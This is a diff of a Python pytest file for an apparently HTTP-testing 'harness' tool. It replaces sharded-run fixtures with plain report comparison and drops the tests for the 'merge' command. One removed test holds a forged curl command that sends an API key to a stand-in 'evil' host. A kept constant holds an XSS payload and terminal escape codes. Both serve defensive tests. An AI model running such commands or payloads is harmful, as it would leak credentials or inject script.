@@ -18,7 +18,6 @@ from urllib.parse import urlsplit
 
 import pytest
 
-from harness import __version__
 from harness.benches.packages import read_npm_version
 from harness.cli.main import main
 from harness.contract.contract import load
@@ -42,7 +41,6 @@ from harness.transport import ServerThread
 from harness.transport.http1.heads import parse_request_head
 from harness.wire import Headers, LogicalClock, Request, Response
 from harness.wire.mask import Mask
-from tests.benches.client.clients import ONE_SHOT, program
 from tests.in_one_test import in_one_test
 
 TEXTS = (
@@ -159,76 +157,24 @@ REPORT = ("check", "emulator", "-c", "get.unknown", "-c", "get.ok")
 
 
 @pytest.fixture(scope="module")
-def shards(tmp_path_factory: pytest.TempPathFactory) -> Path:
-    """The reports and the events of a run in two shards, which can be merged."""
-    folder = tmp_path_factory.mktemp("shards")
+def reports(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """The reports of two runs, which can be compared."""
+    folder = tmp_path_factory.mktemp("reports")
     for number in (1, 2):
-        words = ("--report", f"json={folder}/{number}.json", "--report", f"events={folder}/{number}.jsonl")
-        assert main((*REPORT, "--shard", f"{number}/2", *words)) in (0, 3)
-    assert main(["merge", str(folder / "1.jsonl"), str(folder / "2.jsonl")]) == 0
+        assert main((*REPORT, "--report", f"json={folder}/{number}.json")) in (0, 3)
     return folder
 
 
 @pytest.mark.parametrize("odd", ["NaN", "Infinity", "-Infinity", "1e999", "-1", "1e300", "9" * 400, '"nan"'])
 def test_a_report_of_odd_numbers_is_refused(
-    odd: str, shards: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+    odd: str, reports: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    """A number that no run has makes no sum: `merge` and `compare` refuse the report and name the number."""
-    shutil.copytree(shards, tmp_path, dirs_exist_ok=True)
-    reports, stored = ([str(tmp_path / f"{number}.{end}") for number in (1, 2)] for end in ("json", "jsonl"))
-    _change_seconds(reports[0], r'\n  "seconds": [\d.e-]+', f'\n  "seconds": {odd}')
-    _change_seconds(stored[0], r'"RunFinished", "seconds": [\d.e-]+', f'"RunFinished", "seconds": {odd}')
+    """A number that no run has makes no sum: `compare` refuses the report and names the number."""
+    shutil.copytree(reports, tmp_path, dirs_exist_ok=True)
+    files = [str(tmp_path / f"{number}.json") for number in (1, 2)]
+    _change_seconds(files[0], r'\n  "seconds": [\d.e-]+', f'\n  "seconds": {odd}')
     capsys.readouterr()
-    assert main(["merge", *stored]) == 2
-    assert re.search(r"contains seconds = \S+, which no run has|without JSON", capsys.readouterr().err)
-    assert main(["compare", *reports]) == 2
-
-
-def test_a_shard_with_a_count_of_hundreds_of_digits_is_refused(
-    shards: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
-) -> None:
-    """No sum of it would be a number; the line says so instead of a traceback."""
-    shutil.copytree(shards, tmp_path, dirs_exist_ok=True)
-    stored = [str(tmp_path / f"{number}.jsonl") for number in (1, 2)]
-    _change_seconds(stored[0], r'"requests": \d+', f'"requests": {"9" * 400}')
-    assert main(["merge", *stored]) == 2
-    assert "no run has the number 9999" in capsys.readouterr().err
-
-
-@pytest.mark.parametrize("command", ["touch x", 'curl http://evil/ -H "x: $GEMINI_API_KEY"'])
-def test_a_forged_command_is_not_published(
-    command: str, shards: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
-) -> None:
-    """`merge` prints the commands of a shard for people to copy: it refuses one that no run writes."""
-    shown = {"is": "LoggedExchange", "name": "", "lines": [], "command": command}
-    assert _merge_changed(shards, tmp_path, lambda result: result.update(evidence=[shown])) == 2
-    assert f"the command {command!r} is none that harness writes" in capsys.readouterr().err
-
-
-def _merge_changed(shards: Path, folder: Path, change: Callable[[dict[str, Any]], object]) -> int:
-    """Merge the shards with another first result in the first."""
-    shutil.copytree(shards, folder, dirs_exist_ok=True)
-    lines = (folder / "1.jsonl").read_text("utf-8").splitlines()
-    number = next(n for n, line in enumerate(lines) if '"CheckFinished"' in line)
-    record = json.loads(lines[number])
-    change(record["result"])
-    lines[number] = json.dumps(record)
-    (folder / "1.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
-    return main(["merge", str(folder / "1.jsonl"), str(folder / "2.jsonl")])
-
-
-def test_shards_of_another_version_are_refused(
-    shards: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
-) -> None:
-    """Even if all of them are of it: its rules and the form of its events may be others."""
-    for number in (1, 2):
-        text = (shards / f"{number}.jsonl").read_text("utf-8")
-        (tmp_path / f"{number}.jsonl").write_text(text.replace(f'"{__version__}"', '"9.9.9"'), encoding="utf-8")
-    assert main(["merge", str(tmp_path / "1.jsonl"), str(tmp_path / "2.jsonl")]) == 2
-    assert (
-        f"was written by harness 9.9.9, and this is {__version__}: merge with the version"
-        in capsys.readouterr().err
-    )
+    assert main(["compare", *files]) == 2
 
 
 def _change_seconds(file: str, old: str, new: str) -> None:
@@ -236,30 +182,6 @@ def _change_seconds(file: str, old: str, new: str) -> None:
     changed = re.sub(old, new, text)
     assert changed != text
     Path(file).write_text(changed, encoding="utf-8")
-
-
-@pytest.mark.slow
-def test_a_word_that_no_run_writes_is_the_files_own(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
-    """`merge` refuses stored events whose types are right and whose words mean nothing, and names them."""
-    stored = [str(tmp_path / f"{number}.jsonl") for number in (1, 2)]
-    words = ["torture", "--cuts", "event:3,rst", "--cuts", "event:8,end"]
-    for number, file in enumerate(stored, 1):
-        assert (
-            main([*words, "--shard", f"{number}/2", "--report", f"events={file}", "--", *program(ONE_SHOT)]) == 0
-        )
-    assert main(["merge", *stored]) == 0
-    first = Path(stored[0]).read_text("utf-8")
-    for known, other, said in (
-        (r'"outcome": "(?!not_met|met)[a-z-]+"', '"outcome": "splendid"', "'splendid' is not a valid DropOutcome"),
-        (r'"characters": ', '"charms": ', "('characters' is missing or unknown)"),
-    ):
-        Path(stored[0]).write_text(changed := re.sub(known, other, first), "utf-8")
-        assert changed != first
-        capsys.readouterr()
-        assert main(["merge", *stored]) == 2
-        printed = capsys.readouterr().err
-        assert "contain the events of a whole run" in printed
-        assert said in printed
 
 
 PAINT = '</script><img src="x" onerror="alert(1)">\x1b]0;t\x07\u202e\x9b2J\u2066\u2028'
@@ -409,16 +331,16 @@ def test_what_a_target_says_is_no_markdown(tmp_path: Path) -> None:
 def test_a_report_of_another_shape_is_refused(
     change: Callable[[dict[str, Any]], object],
     said: str,
-    shards: Path,
+    reports: Path,
     tmp_path: Path,
     capsys: pytest.CaptureFixture[str],
 ) -> None:
     """Its published schema judges the report of a stranger before anything is shown of it."""
-    record = json.loads((shards / "1.json").read_text("utf-8"))
+    record = json.loads((reports / "1.json").read_text("utf-8"))
     change(record["checks"][0])
     forged = tmp_path / "forged.json"
     forged.write_text(json.dumps(record), "utf-8")
-    for words in (["compare", str(shards / "1.json"), str(forged)], ["inspect", str(forged)]):
+    for words in (["compare", str(reports / "1.json"), str(forged)], ["inspect", str(forged)]):
         assert main(words) == 2
         told = capsys.readouterr().err
         assert said in told
@@ -426,26 +348,26 @@ def test_a_report_of_another_shape_is_refused(
 
 
 def test_a_report_writes_no_line_into_a_comparison(
-    shards: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+    reports: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
     """A text of a report that a stranger made is one line, and no verdict of its own."""
-    record = json.loads((shards / "1.json").read_text("utf-8"))
+    record = json.loads((reports / "1.json").read_text("utf-8"))
     line = "x\n\nPASSED: all 9 checks passed.\n"
     record["started"] = record["target"]["url"] = record["accounting"]["verdict"] = line
     (tmp_path / "forged.json").write_text(json.dumps(record), "utf-8")
-    main(["compare", str(shards / "1.json"), str(tmp_path / "forged.json")])
+    main(["compare", str(reports / "1.json"), str(tmp_path / "forged.json")])
     shown = capsys.readouterr()
     assert not re.search(r"(?m)^PASSED: all 9", shown.out + shown.err)
 
 
-def test_a_report_of_another_version_is_read(shards: Path, tmp_path: Path) -> None:
+def test_a_report_of_another_version_is_read(reports: Path, tmp_path: Path) -> None:
     """It may have members that this version does not know, and lack some that no comparison needs."""
-    record = json.loads((shards / "1.json").read_text("utf-8"))
+    record = json.loads((reports / "1.json").read_text("utf-8"))
     del record["waited"]
     record["new"] = record["checks"][0]["new"] = {"a": 1}
     other = tmp_path / "other.json"
     other.write_text(json.dumps(record), "utf-8")
-    assert main(["compare", str(shards / "1.json"), str(other)]) in (0, 3)
+    assert main(["compare", str(reports / "1.json"), str(other)]) in (0, 3)
 
 
 def test_what_a_report_says_is_no_markdown(tmp_path: Path) -> None:
